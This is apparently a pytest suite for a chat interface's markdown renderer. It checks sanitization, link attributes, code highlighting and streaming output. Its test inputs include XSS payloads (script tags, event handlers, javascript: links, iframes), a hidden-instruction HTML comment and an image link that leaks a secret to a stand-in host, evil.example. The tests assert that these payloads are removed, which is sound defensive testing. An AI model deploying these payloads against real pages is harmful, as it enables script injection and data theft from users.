from __future__ import annotations

import random

import pytest

from chat.open_block import OpenBlock, TailPatch
from chat.rendering import render_block, render_text, sanitize, split_blocks


@pytest.mark.parametrize(
    ("source", "forbidden"),
    [
        ("<script>alert(1)</script>Hello", "<script"),
        ("<script>alert(1)</script>Hello", "alert(1)"),
        ('<img src="x" onerror="alert(1)">', "onerror"),
        ('<img src="x" onerror="alert(1)">', "<img"),
        ("![tracking pixel](https://evil.example/leak?q=secret)", "<img"),
        ("![tracking pixel](https://evil.example/leak?q=secret)", "evil.example"),
        ("[click me](javascript:alert(1))", "javascript:"),
        ('<a href="javascript:alert(1)">click</a>', "javascript:"),
        ('<a href="https://example.com" onclick="steal()">x</a>', "onclick"),
        ('<div onmouseover="steal()">hover</div>', "onmouseover"),
        ('<iframe src="https://evil.example"></iframe>', "<iframe"),
        ("<svg onload=alert(1)>", "onload"),
        ('<p style="position:fixed">overlay</p>', "style="),
        ("<!-- hidden instructions -->visible", "hidden instructions"),
    ],
)
def test_dangerous_markup_is_removed(source: str, forbidden: str) -> None:
    assert forbidden not in render_block(source)


def test_text_around_removed_markup_survives() -> None:
    assert "Hello" in render_block("<script>alert(1)</script>Hello")


def test_links_open_in_a_new_tab_without_opener() -> None:
    html = render_block("See [the docs](https://example.com/docs).")

    assert 'href="https://example.com/docs"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html


def test_raw_html_links_also_get_the_safe_attributes() -> None:
    html = sanitize('<a href="https://example.com" target="_self" rel="opener">x</a>')

    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "_self" not in html


def test_mailto_links_are_kept() -> None:
    assert 'href="mailto:team@example.com"' in render_block("[mail](mailto:team@example.com)")


def test_code_fence_renders_with_its_language_and_escaped_content() -> None:
    html = render_block("```python\nif a < b:\n    print('<b>')\n```")

    # Highlighted once on the server (Pygments, hl-* classes only), with its own copy button.
    assert html.startswith('<div class="hl code-block"')
    assert '<span class="hl-k">if</span>' in html and 'aria-label="Copy code"' in html
    assert "&lt;" in html
    assert "&lt;b&gt;" in html
    assert "<b>" not in html


def test_table_renders_with_alignment() -> None:
    html = render_block("| City | Temp |\n|:-----|-----:|\n| Oslo | 3 |")

    assert "<table>" in html
    assert '<th align="left">City</th>' in html
    assert '<td align="right">3</td>' in html


def test_lists_render() -> None:
    assert render_block("- one\n- two") == "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"
    assert render_block("1. one\n2. two") == "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"


def test_single_newlines_become_line_breaks() -> None:
    assert render_block("one\ntwo") == "<p>one<br>\ntwo</p>"


def _texts(text: str) -> list[str]:
    return [text[block.start : block.end] for block in split_blocks(text)]


def test_blank_lines_separate_blocks() -> None:
    assert _texts("# Title\n\nFirst paragraph.\n\n\nSecond paragraph.") == [
        "# Title",
        "First paragraph.",
        "Second paragraph.",
    ]


def test_code_fence_with_blank_lines_is_one_block() -> None:
    fence = "```python\ndef f():\n\n\n    return 1\n```"

    assert _texts(f"Before.\n\n{fence}\n\nAfter.") == ["Before.", fence, "After."]


def test_tilde_fence_is_closed_only_by_its_own_marker() -> None:
    fence = "~~~\n```\n\nstill code\n~~~"

    assert _texts(f"{fence}\n\nAfter.") == [fence, "After."]


def test_loose_list_is_one_block() -> None:
    assert _texts("- a\n\n- b") == ["- a\n\n- b"]
    assert _texts("1. a\n\n2. b\n\n   continued\n\nAfter.") == ["1. a\n\n2. b\n\n   continued", "After."]


def test_loose_list_renders_as_one_list() -> None:
    html = "".join(render_text("- a\n\n- b", complete=True).blocks)

    assert html.count("<ul>") == 1
    assert html.count("<li>") == 2


def test_unclosed_fence_runs_to_the_end() -> None:
    assert _texts("Intro\n\n```\ncode\n\nmore") == ["Intro", "```\ncode\n\nmore"]


def test_incomplete_text_keeps_the_last_block_raw() -> None:
    rendered = render_text("Done paragraph.\n\nStill **writ", complete=False)

    assert rendered.blocks == ["<p>Done paragraph.</p>"]
    assert rendered.tail == "Still **writ"
    assert rendered.committed == 1


def test_complete_text_renders_every_block_and_has_no_tail() -> None:
    rendered = render_text("One.\n\nTwo.", complete=True)

    assert rendered.blocks == ["<p>One.</p>", "<p>Two.</p>"]
    assert rendered.tail == ""
    assert rendered.committed == 2


def test_already_skips_blocks_rendered_before() -> None:
    rendered = render_text("One.\n\nTwo.\n\nThree.", complete=True, already=2)

    assert rendered.blocks == ["<p>Three.</p>"]
    assert rendered.committed == 3


def test_empty_text_has_nothing() -> None:
    assert render_text("", complete=False) == render_text("", complete=True)
    assert render_text("", complete=True).blocks == []


STREAMED_TEXTS = {
    "paragraphs": (
        "Here is the plan.\nIt has two lines.\n\nSecond paragraph with **bold**, *italic* and `code`.\n\n"
        "Third, with a [link](https://example.com)."
    ),
    "loose_list": "Steps:\n\n- first item\n\n- second item\n  continued\n\n- third\n\n1. one\n\n2. two\n\nDone.",
    "tight_list": "Shopping:\n\n* apples\n* pears\n+ plums\n\n10. ten\n11. eleven",
    "code_fence": (
        "Run this:\n\n```python\nimport math\n\n\ndef area(r):\n\n    return math.pi * r ** 2\n```\n\n"
        "~~~\nplain\n\n~~~\n\nThat prints the area."
    ),
    "table": (
        "| Zone | Offset |\n|:-----|------:|\n| Asia/Tokyo | +09:00 |\n| Europe/Paris | +01:00 |\n\n"
        "Times are approximate."
    ),
    "headings": "# Title\n\n## Section\nText under it.\n\n### Sub\n\n- a\n- b\n\n---\n\nEnd.",
    "mixed": (
        "# Report\n\nIntro.\n\n- point one\n\n- point two\n\n```\nx = 1\n\ny = 2\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n> text\n\n12. twelve\n\nBye."
    ),
    "trailing_newlines": "Para one.\n\n- item\n\n\n",
}


def _stream(text: str, cuts: list[int]) -> str:
    """Feeds growing prefixes the way the worker does and returns what the page ends up with."""
    html: list[str] = []
    committed = 0
    for cut in cuts:
        rendered = render_text(text[:cut], complete=False, already=committed)
        assert rendered.committed >= committed, f"committed went back at {text[:cut]!r}"
        html.extend(rendered.blocks)
        committed = rendered.committed
    final = render_text(text, complete=True, already=committed)
    html.extend(final.blocks)
    return "".join(html)


@pytest.mark.parametrize("name", sorted(STREAMED_TEXTS))
def test_streaming_char_by_char_equals_rendering_at_once(name: str) -> None:
    text = STREAMED_TEXTS[name]

    streamed = _stream(text, list(range(1, len(text) + 1)))

    assert streamed == "".join(render_text(text, complete=True).blocks)


@pytest.mark.parametrize("name", sorted(STREAMED_TEXTS))
@pytest.mark.parametrize("seed", [1, 2, 3])
def test_streaming_in_random_pieces_equals_rendering_at_once(name: str, seed: int) -> None:
    text = STREAMED_TEXTS[name]
    rng = random.Random(seed)
    cuts = []
    position = 0
    while position < len(text):
        position = min(len(text), position + rng.randint(1, 12))
        cuts.append(position)

    streamed = _stream(text, cuts)

    assert streamed == "".join(render_text(text, complete=True).blocks)


@pytest.mark.parametrize("name", sorted(STREAMED_TEXTS))
def test_while_streaming_all_text_not_committed_is_in_the_tail(name: str) -> None:
    # The live page shows the committed blocks followed by the raw tail: nothing may fall between.
    text = STREAMED_TEXTS[name]
    for cut in range(1, len(text) + 1):
        prefix = text[:cut]
        rendered = render_text(prefix, complete=False)
        spans = split_blocks(prefix)
        committed_end = spans[rendered.committed - 1].end if rendered.committed else 0

        assert rendered.tail.strip() == prefix[committed_end:].strip(), prefix


def test_a_half_written_list_marker_holds_back_the_list_above_it() -> None:
    rendered = render_text("Intro.\n\n- a\n\n-", complete=False)

    assert rendered.blocks == ["<p>Intro.</p>"]
    assert rendered.tail == "- a\n\n-"


def test_the_open_block_grows_by_appending_and_is_replaced_when_blocks_commit_or_the_text_ends() -> None:
    # The patches themselves: tests/chat/test_open_block.py.
    block = OpenBlock()
    first = block.update(render_text("Still writ", complete=False), complete=False)
    assert first == TailPatch(True, "<p>Still writ</p>")
    grown = block.update(render_text("Still writing <b>", complete=False), complete=False)
    assert grown == TailPatch(True, "<p>Still writing <b></b></p>")  # the tag changed the HTML
    committed = block.update(render_text("One.\n\nTw", complete=False, already=0), complete=False)
    assert committed is not None and committed.replace
    done = block.update(render_text("One.\n\nTwo.", complete=True, already=1), complete=True)
    assert done == TailPatch(True, "")


def test_the_open_block_sends_nothing_when_the_tail_shows_the_same() -> None:
    block = OpenBlock()
    rendered = render_text("Text", complete=False)
    block.update(rendered, complete=False)
    assert block.update(rendered, complete=False) is None


# --- model output cannot pose as the page's controls ----------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        '<code class="stop-btn">x</code>',
        '<code class="language-py stop-btn">x</code>',
        '<span class="tsp-trigger" id="stop-btn">x</span>',
        '<a href="https://example.com" class="tool-card" id="composer" data-action="toggle-theme">x</a>',
        '<p class="turn-state" data-turn-status="running">x</p>',
        '<td class="stop-btn" align="left">x</td>',
    ],
)
def test_model_html_carries_no_page_class_id_or_data_attribute(source: str) -> None:
    html = render_block(source)
    for forbidden in ("stop-btn", "tsp-trigger", "tool-card", "turn-state", "id=", "data-", "composer"):
        assert forbidden not in html, (forbidden, html)


def test_fenced_code_is_highlighted_by_its_language_and_a_hostile_fence_is_text() -> None:
    assert '<span class="hl-nb">print</span>' in render_block("```python\nprint(1)\n```")
    hostile = render_block('```"><b\nx\n```')
    assert "<b" not in hostile and 'class="hl' not in hostile
